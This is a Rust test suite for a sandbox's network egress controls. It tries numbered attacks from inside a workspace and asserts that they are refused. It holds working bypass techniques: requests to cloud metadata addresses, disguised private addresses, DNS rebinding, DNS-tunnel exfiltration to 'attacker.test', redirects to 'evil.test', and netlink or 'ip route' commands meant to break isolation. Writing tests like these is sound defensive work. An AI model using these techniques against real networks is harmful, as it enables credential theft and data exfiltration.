//! attacks.md 69–79, 81–83, 85, 86, 88–90: reaching forbidden destinations.
//!
//! Each attack is tried against both checks, and once without them to show that it would work.

use crate::support::{Running, World, eventually};
use holm_core::config::EgressMode;
use holm_core::spec::Egress;
use holm_keeper::wire::{Answer, Op, Request, VERSION, control_frame, read_control};
use std::io::Write;
use std::os::unix::net::UnixStream;

const ALLOW: &str = "[egress]\nmode = \"allow\"\nallow = [\"web.test\", \"*.wild.test\"]\n";

/// Prints, for each target, `connected` or the name of the error, and never waits long.
const TRY: &str = "import errno, socket, sys, time\n\
def attempt(host, port):\n\
\x20 begun = time.monotonic()\n\
\x20 try:\n\
\x20   s = socket.create_connection((host, port), 15)\n\
\x20   s.sendall(b'GET /stolen HTTP/1.0\\r\\n\\r\\n')\n\
\x20   got = s.recv(100)\n\
\x20   word = 'connected' if got else 'closed'\n\
\x20 except socket.gaierror: word = 'no-name'\n\
\x20 except (TimeoutError, socket.timeout): word = 'timeout'\n\
\x20 except OSError as e: word = errno.errorcode.get(e.errno, str(e.errno))\n\
\x20 if time.monotonic() - begun > 10: word += '-slow'\n\
\x20 return word\n\
for target in sys.argv[1:]:\n\
\x20 host, port = target.rsplit('@', 1)\n\
\x20 print(host, attempt(host, int(port)))\n";

/// What became of each target (`host@port`), in order.
fn attempts(world: &World, workspace: &str, targets: &[&str]) -> Vec<String> {
    let argv = [&["/usr/bin/python3", "-c", TRY], targets].concat();
    let ran = world.island().inside(workspace, &argv).ok();
    ran.out()
        .lines()
        .map(|line| line.rsplit(' ').next().unwrap().to_owned())
        .collect()
}

#[track_caller]
fn all_refused(world: &World, workspace: &str, targets: &[&str]) {
    let before = world.seen().len();
    let found = attempts(world, workspace, targets);
    for (target, word) in targets.iter().zip(&found) {
        let is_refused = [
            "ECONNREFUSED",
            "ECONNRESET",
            "no-name",
            "ENETUNREACH",
            "closed",
        ];
        assert!(is_refused.contains(&word.as_str()), "{target}: {word}");
    }
    assert_eq!(found.len(), targets.len());
    let seen = world.seen();
    let after: Vec<_> = seen[before..]
        .iter()
        .filter(|line| !line.starts_with("dns"))
        .collect();
    assert!(after.is_empty(), "something arrived: {after:?}");
}

const PUBLIC: [&str; 4] = [
    "198.51.100.10@80",
    "2001:db8::20@80",
    "::ffff:198.51.100.10@80",
    "198.51.100.10@443",
];

const NOT_PUBLIC: [&str; 14] = [
    "10.9.9.9@80",
    "172.16.9.9@80",
    "192.168.9.9@80",
    "100.64.9.9@80",
    "169.254.169.254@80",
    "100.100.100.200@80",
    "168.63.129.16@80",
    "::ffff:10.9.9.9@80",
    "::ffff:169.254.169.254@80",
    "64:ff9b::a09:909@80",
    "fd00:9::9@80",
    "fd00:ec2::254@80",
    "203.0.113.2@8099",
    "2001:db8:1::2@8099",
];

const NAMES_OF_NOT_PUBLIC: [&str; 9] = [
    "private.test@80",
    "private6.test@80",
    "mapped.test@80",
    "nat64.test@80",
    "metadata.test@80",
    "metadata6.test@80",
    "loop.test@8099",
    "loop6.test@8099",
    "own.test@8099",
];

#[test]
fn attack_69_70_89_what_is_not_listed_is_refused_over_every_protocol() {
    let Some(world) = World::new() else { return };
    world.up("x", ALLOW);
    all_refused(&world, "x", &PUBLIC);
    let datagrams = "import socket\n\
        for family, host in ((socket.AF_INET, '192.0.2.10'), (socket.AF_INET6, '2001:db8::10')):\n\
        \x20 for port in (443, 9, 123):\n\
        \x20   s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(60)\n\
        \x20   try: s.sendto(b'x', (host, port)); s.recv(1); print('got')\n\
        \x20   except TimeoutError: print('timeout')\n\
        \x20   except OSError as e: print(e.strerror)\n\
        for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):\n\
        \x20 try: socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); print('icmp')\n\
        \x20 except PermissionError: print('refused')";
    let said = world.island().python("x", datagrams).ok().out();
    assert!(!said.contains("got") && !said.contains("timeout"), "{said}");
    assert!(said.ends_with("refused\nrefused"), "{said}");
    eventually("the refusals are written down", || {
        let record = world.record("x");
        let has = |address: &str| record.iter().any(|entry| entry["address"] == address);
        has("198.51.100.10") && has("2001:db8::20") && has("192.0.2.10") && has("2001:db8::10")
    });
    // Proxy variables mean nothing: there is no proxy to go around.
    let with =
        "env http_proxy= no_proxy='*' curl -sS --noproxy '*' --max-time 60 http://198.51.100.10/";
    world.island().sh("x", with).exits(7);
}

#[test]
fn attack_71_72_77_78_nothing_that_is_not_public_is_reached_even_when_all_is_open() {
    let Some(world) = World::new() else { return };
    let _service = world.host_service();
    world.up("x", "");
    all_refused(&world, "x", &NOT_PUBLIC);
    all_refused(&world, "x", &NAMES_OF_NOT_PUBLIC);
    // Other spellings of addresses are the same addresses, or nothing.
    let spellings = [
        "2130706433@8099",
        "0177.1@8099",
        "127.1@8099",
        "0@8099",
        "0x7f000001@8099",
        "::ffff:7f00:1@8099",
        "::@8099",
        "localhost@8099",
        "host.docker.internal@8099",
        "gateway.docker.internal@8099",
        "167774729@80",
        "012.9.9.9@80",
        "0xa9fea9fe@80",
    ];
    all_refused(&world, "x", &spellings);
    let ports = [
        "127.0.0.1@5432",
        "127.0.0.1@2375",
        "127.0.0.1@6379",
        "203.0.113.2@22",
    ];
    all_refused(&world, "x", &ports);
}

#[test]
fn the_same_addresses_are_reached_without_the_walls() {
    let Some(world) = World::without("egress_rules,gateway") else {
        return;
    };
    let _service = world.host_service();
    world.up("x", "");
    // The last needs no counterpart: without checks a name leads wherever its owner says.
    for target in [
        "10.9.9.9@80",
        "169.254.169.254@80",
        "fd00:ec2::254@80",
        "203.0.113.2@8099",
    ] {
        assert_eq!(attempts(&world, "x", &[target]), ["connected"], "{target}");
    }
    for target in [
        "private.test@80",
        "metadata6.test@80",
        "loop.test@8099",
        "own.test@8099",
    ] {
        assert_eq!(attempts(&world, "x", &[target]), ["connected"], "{target}");
    }
}

#[test]
fn either_wall_alone_holds() {
    for defence in ["egress_rules", "gateway"] {
        let Some(world) = World::without(defence) else {
            return;
        };
        let _service = world.host_service();
        world.up("open", "");
        all_refused(&world, "open", &NOT_PUBLIC);
        world.up("listed", ALLOW);
        all_refused(&world, "listed", &PUBLIC);
        if defence == "egress_rules" {
            all_refused(&world, "open", &NAMES_OF_NOT_PUBLIC);
        }
    }
}

#[test]
fn attack_73_a_workspace_does_not_reach_its_sibling() {
    let Some(world) = World::new() else { return };
    let island = world.island();
    world.up("a", "");
    world.up("b", "");
    let serve = "python3 -m http.server 8000 >/dev/null 2>&1 & \
        for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:8000/ && exit 0; sleep 0.1; done; exit 1";
    island.sh("b", serve).ok();
    let own = "curl -s -o /dev/null -w '%{http_code}' http://198.18.0.1:8000/";
    assert_eq!(island.sh("b", own).ok().out(), "200");
    all_refused(
        &world,
        "a",
        &[
            "127.0.0.1@8000",
            "198.18.0.1@8000",
            "b@8000",
            "b.localhost@8000",
        ],
    );
    all_refused(
        &world,
        "a",
        &[
            "fd68:6f6c:6d00::1@8000",
            "198.18.0.2@8000",
            "p-b.local@8000",
        ],
    );
}

#[test]
fn attack_74_75_76_names_match_exactly_and_wrong_lists_allow_nothing() {
    let Some(world) = World::new() else { return };
    world.up("x", ALLOW);
    let names = [
        "web.test.evil.test@80",
        "evilweb.test@80",
        "a.web.test@80",
        "wild.test@80",
        "evilwild.test@80",
        "web.test@evil.test@80",
        "web.tes@80",
        "xn--web-test@80",
    ];
    all_refused(&world, "x", &names);
    assert_eq!(attempts(&world, "x", &["WEB.TEST.@80"]), ["connected"]);
    // What no name has is not looked up, however the question is written.
    let labels = "import socket\n\
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60)\n\
        head = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0'\n\
        for label in (b'a\\0.web', b'a\\r\\nb', b'a b', b'a\\\\b', b'web.test', b'\\xff', b'a' * 63):\n\
        \x20 name = bytes([len(label)]) + label + b'\\x04wild\\x04test\\0'\n\
        \x20 s.sendto(head + name + b'\\0\\x01\\0\\x01', ('198.18.0.1', 53))\n\
        \x20 print(s.recv(600)[3] & 15)\n\
        s.sendto(b'garbage', ('198.18.0.1', 53)); s.sendto(b'', ('198.18.0.1', 53))\n\
        s.sendto(head + bytes([200]) + b'a' * 200, ('198.18.0.1', 53)); print(s.recv(600)[3] & 15)\n";
    let codes = world.island().python("x", labels).ok().out();
    assert_eq!(
        codes.lines().collect::<Vec<_>>(),
        ["3", "3", "3", "3", "3", "3", "0", "1"]
    );
    let odd = world
        .seen()
        .into_iter()
        .filter(|line| line.contains("wild.test"));
    let odd: Vec<_> = odd.filter(|line| !line.contains(&"a".repeat(63))).collect();
    assert!(odd.is_empty(), "{odd:?}");

    world.up("empty", "[egress]\nmode = \"allow\"\nallow = []\n");
    all_refused(
        &world,
        "empty",
        &["web.test@80", "192.0.2.10@80", "2001:db8::10@80"],
    );
    let repository = world.island().repository("wrong");
    for wrong in [
        "allow = [\"*\"]",
        "allow = [\"\"]",
        "allow = \"web.test\"",
        "mode = \"\"",
    ] {
        repository.write("holm.toml", format!("[egress]\n{wrong}\n"));
        repository.commit("wrong");
        repository.holm(&["up", "wrong"]).exits(2);
    }
}

#[test]
fn attack_78_a_name_that_changes_its_mind_leads_nowhere_else() {
    let Some(world) = World::new() else { return };
    world.up("x", "");
    assert_eq!(attempts(&world, "x", &["rebind.test@80"]), ["connected"]);
    // The name has another address now; the program still has the first answer.
    let later = "import socket, time\n\
        where = socket.getaddrinfo('rebind.test', 80, type=socket.SOCK_STREAM)[0][4]\n\
        end = time.monotonic() + 15\n\
        while time.monotonic() < end:\n\
        \x20 try:\n\
        \x20   s = socket.create_connection(where[:2], 15); s.sendall(b'GET /again HTTP/1.0\\r\\n\\r\\n')\n\
        \x20   if not s.recv(100): break\n\
        \x20   time.sleep(0.2)\n\
        \x20 except OSError as e: print(e.strerror); break\n\
        else: print('still there')";
    let said = world.island().python("x", later);
    assert!(!said.out().contains("still there"), "{said:?}");
    assert_eq!(world.count("http 10.9.9.9"), 0, "{:?}", world.seen());
    // Of several answers only what may be dialled is.
    assert_eq!(attempts(&world, "x", &["mixed.test@80"]), ["connected"]);
    assert_eq!(world.count("http 10.9.9.9"), 0);
}

#[test]
fn attack_79_questions_for_what_is_not_allowed_do_not_leave() {
    let Some(world) = World::new() else { return };
    let island = world.island();
    world.up("x", ALLOW);
    let tunnel = "import socket\n\
        for n in range(50):\n\
        \x20 try: socket.getaddrinfo(f'data{n:04x}.attacker.test', 80)\n\
        \x20 except socket.gaierror: pass\n\
        head = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0'\n\
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60)\n\
        for kind in (1, 2, 5, 12, 15, 16, 28, 33, 65, 252, 255):\n\
        \x20 for name in (b'\\x04data\\x08attacker\\x04test\\0', b'\\x03web\\x04test\\0'):\n\
        \x20   s.sendto(head + name + kind.to_bytes(2) + b'\\0\\x01', ('192.0.2.10', 53)); r = s.recv(600)\n\
        \x20   print(kind, r[3] & 15, r[7])\n";
    let said = island.python("x", tunnel).ok().out();
    for line in said.lines() {
        let words: Vec<_> = line.split(' ').collect();
        let expected = match (words[0], words[1]) {
            (_, "3") => "0",
            ("1" | "28", "0") => "1",
            (_, "0") => "0",
            _ => panic!("{line}"),
        };
        assert_eq!(words[2], expected, "{line}");
    }
    assert_eq!(world.count("attacker"), 0, "{:?}", world.seen());
    // Only addresses were asked for, and only of the name that is allowed.
    let asked = world
        .seen()
        .into_iter()
        .filter(|line| line.starts_with("dns"));
    for line in asked {
        assert!(
            line == "dns web.test 1" || line == "dns web.test 28",
            "{line}"
        );
    }
    island
        .sh("x", "curl -sS --max-time 60 http://data.attacker.test/")
        .exits(6);
    assert_eq!(world.count("attacker"), 0);
    // With a wildcard, or when everything is open, a name carries what its owner reads: see docs/egress.md.
    assert_eq!(
        attempts(&world, "x", &["data0001.wild.test@80"]),
        ["connected"]
    );
    assert!(world.count("dns data0001.wild.test") > 0);
}

#[test]
fn attack_82_a_redirect_is_a_new_connection_and_judged_anew() {
    let Some(world) = World::new() else { return };
    let island = world.island();
    world.up("x", ALLOW);
    world.up("open", "");
    for (workspace, to, code) in [
        ("x", "http://evil.test/", 6),
        ("x", "http://198.51.100.10/", 7),
        ("x", "http://169.254.169.254/latest", 7),
        ("open", "http://169.254.169.254/latest", 7),
        ("open", "http://metadata.test/latest", 6),
        ("open", "http://10.9.9.9/", 7),
    ] {
        let line = format!("curl -sSL --max-time 60 'http://web.test/to/{to}'");
        island.sh(workspace, &line).exits(code);
    }
    let line = "curl -sSL --max-time 60 http://web.test/to/http://web.test/there";
    assert!(island.sh("x", line).ok().out().ends_with("says /there"));
    for arrived in ["http 169.254", "http 10.9", "http 198.51", "evil.test /"] {
        assert_eq!(world.count(arrived), 0, "{:?}", world.seen());
    }
}

#[test]
fn attack_81_83_what_is_said_inside_a_connection_is_no_promise() {
    let Some(world) = World::new() else { return };
    let island = world.island();
    world.up("x", "[egress]\nmode = \"allow\"\nallow = [\"web.test\"]\n");
    // The resolved name and its address are checked. What a program then sends (`Host`, SNI, no TLS
    // at all on 443) is between it and that host: documented, not promised.
    let line = "curl -sS --max-time 60 -H 'Host: evil.test' http://web.test/host";
    island.sh("x", line).ok();
    assert_eq!(world.count("evil.test /host"), 1);
    assert_eq!(attempts(&world, "x", &["web.test@443"]), ["connected"]);
    // It reaches that host and no other, and QUIC does not leave at all.
    assert_eq!(world.count("198.51.100.10"), 0);
    let page = include_str!("../../../../docs/egress.md");
    assert!(page.contains("SNI") && page.contains("UDP"));
}

#[test]
fn attack_85_a_policy_that_narrows_cuts_what_is_open_and_never_opens() {
    let Some(world) = World::new() else { return };
    let island = world.island();
    world.up("x", ALLOW);
    let root = island.home().join("src/p-x");
    let edit = |allow: &str| {
        let text = format!("[egress]\nmode = \"allow\"\nallow = [{allow}]\n");
        island
            .sh(
                "x",
                &format!("printf '%s' '{text}' > {}/holm.toml", root.display()),
            )
            .ok();
        island.holm(&["reload", "x", "--inside"]).ok();
    };
    let tunnel = "import socket\n\
        s = socket.create_connection(('web.test', 443), 20)\n\
        s.sendall(b'x'); s.recv(1); print('open', flush=True)\n\
        try: print(len(s.recv(1)), flush=True)\n\
        except ConnectionResetError: print('reset', flush=True)";
    let argv = ["exec", "x", "--", "/usr/bin/python3", "-c", tunnel];
    let mut open = Running::new(&mut island.holm_command(&island.home(), &argv));
    open.says("open");
    edit("\"*.wild.test\"");
    open.says("reset");
    assert_eq!(open.code(), Some(0));
    eventually("the cut is written down", || {
        world
            .record("x")
            .iter()
            .any(|entry| entry["kind"] == "cut" && entry["name"] == "web.test")
    });
    all_refused(&world, "x", &["web.test@80"]);
    // While the list changes back and forth, a host on neither list is never reached.
    let knock = "import socket, os\n\
        print('knocking', flush=True); count = 0\n\
        while not os.path.exists('/tmp/enough'):\n\
        \x20 s = socket.socket(); s.settimeout(60)\n\
        \x20 if s.connect_ex(('198.51.100.10', 80)) == 0: print('through', flush=True); break\n\
        \x20 s.close(); count += 1\n\
        print('tried', count > 0, flush=True)";
    let argv = ["exec", "x", "--", "/usr/bin/python3", "-c", knock];
    let mut knocking = Running::new(&mut island.holm_command(&island.home(), &argv));
    knocking.says("knocking");
    let id = id_of(&world, "x");
    let socket = island.holm_home().join(format!("run/w/{id}.sock"));
    for round in 0..1000 {
        let allow = if round % 2 == 0 {
            "web.test"
        } else {
            "*.wild.test"
        };
        set_egress(&socket, allow);
    }
    island.sh("x", "touch /tmp/enough").ok();
    knocking.says("tried True");
    assert_eq!(attempts(&world, "x", &["a.wild.test@80"]), ["connected"]);
}

/// Tells the keeper another policy, as the daemon does.
fn set_egress(socket: &std::path::Path, allow: &str) {
    let egress = Egress {
        mode: EgressMode::Allow,
        allow: vec![allow.to_owned()],
    };
    let request = Request {
        version: VERSION,
        op: Op::SetEgress(egress),
    };
    let mut stream = UnixStream::connect(socket).unwrap();
    stream.write_all(&control_frame(&request).unwrap()).unwrap();
    let answer: Answer = read_control(&mut stream).unwrap();
    assert!(matches!(answer, Answer::Done), "{answer:?}");
}

fn id_of(world: &World, workspace: &str) -> String {
    let shown = world.island().holm(&["show", workspace, "--json"]).json();
    shown["id"].as_str().unwrap().to_owned()
}

#[test]
fn attack_86_without_its_keeper_nothing_is_left() {
    let Some(world) = World::new() else { return };
    let island = world.island();
    world.up("x", ALLOW);
    let argv = ["exec", "x", "--", "sh", "-c", "echo here; exec sleep 1000"];
    let mut running = Running::new(&mut island.holm_command(&island.home(), &argv));
    running.says("here");
    assert_eq!(attempts(&world, "x", &["web.test@80"]), ["connected"]);
    let id = id_of(&world, "x");
    let keeper = keeper_of(&id);
    crate::support::send(keeper, rustix::process::Signal::KILL);
    running.code();
    // It starts again with the same policy: refused hosts still are.
    all_refused(&world, "x", &["evil.test@80", "198.51.100.10@80"]);
    assert_eq!(attempts(&world, "x", &["web.test@80"]), ["connected"]);
}

/// The keeper holds the workspace's lock.
fn keeper_of(id: &str) -> i32 {
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    let mut numbers = processes.filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok());
    let lock = format!("workspaces/{id}/lock");
    let holds = |pid: &i32| {
        let files = std::fs::read_dir(format!("/proc/{pid}/fd"))
            .into_iter()
            .flatten()
            .flatten();
        let mut links = files.filter_map(|file| std::fs::read_link(file.path()).ok());
        links.any(|link| link.to_string_lossy().ends_with(&lock))
    };
    numbers.find(holds).expect("a keeper")
}

#[test]
fn attack_88_90_the_walls_cannot_be_changed_or_dialled_from_inside() {
    let Some(world) = World::new() else { return };
    let island = world.island();
    world.up("a", "");
    world.up("b", ALLOW);
    let change = "ip route del default 2>&1; ip addr add 10.0.0.1/32 dev lo 2>&1; ip link set lo down 2>&1; \
        ip route add 10.0.0.0/8 dev lo 2>&1; echo 1 > /proc/sys/net/ipv4/ip_forward; true";
    let said = island.sh("b", change).ok();
    assert!(said.out().contains("not permitted"), "{}", said.out());
    // The kernel is asked to drop the table, by a socket of the workspace's own.
    let flush = "import socket, struct\n\
        s = socket.socket(16, 3, 12); s.bind((0, 0)); s.settimeout(60)\n\
        def message(kind, body, flags): return struct.pack('=IHHII', 16 + len(body), kind, flags, 1, 0) + body\n\
        batch = message(16, b'\\0\\0\\0\\x0a', 1) + message(10 << 8 | 2, b'\\x01\\0\\0\\0', 5) + message(17, b'\\0\\0\\0\\x0a', 1)\n\
        s.send(batch); print(struct.unpack('=i', s.recv(4096)[16:20])[0])";
    let said = island.python("b", flush);
    let is_refused = said.out() == "-1" || said.stderr.contains("Error");
    assert!(is_refused, "{said:?}");
    // Dialled directly, the gateway refuses every caller.
    all_refused(
        &world,
        "b",
        &["198.18.0.1@1", "fd68:6f6c:6d00::1@1", "127.0.0.1@1"],
    );
    // A substitute address of one workspace is invalid in another.
    let stands = "import socket; print(socket.gethostbyname('evil.test'))";
    let address = island.python("a", stands).ok().out();
    assert!(address.starts_with("198.18."), "{address}");
    all_refused(&world, "b", &[&format!("{address}@80"), "198.18.200.9@80"]);
    all_refused(&world, "b", &PUBLIC);
    assert!(
        world
            .record("a")
            .iter()
            .all(|entry| entry["name"] != "web.test")
    );
    assert_eq!(attempts(&world, "b", &["web.test@80"]), ["connected"]);
}
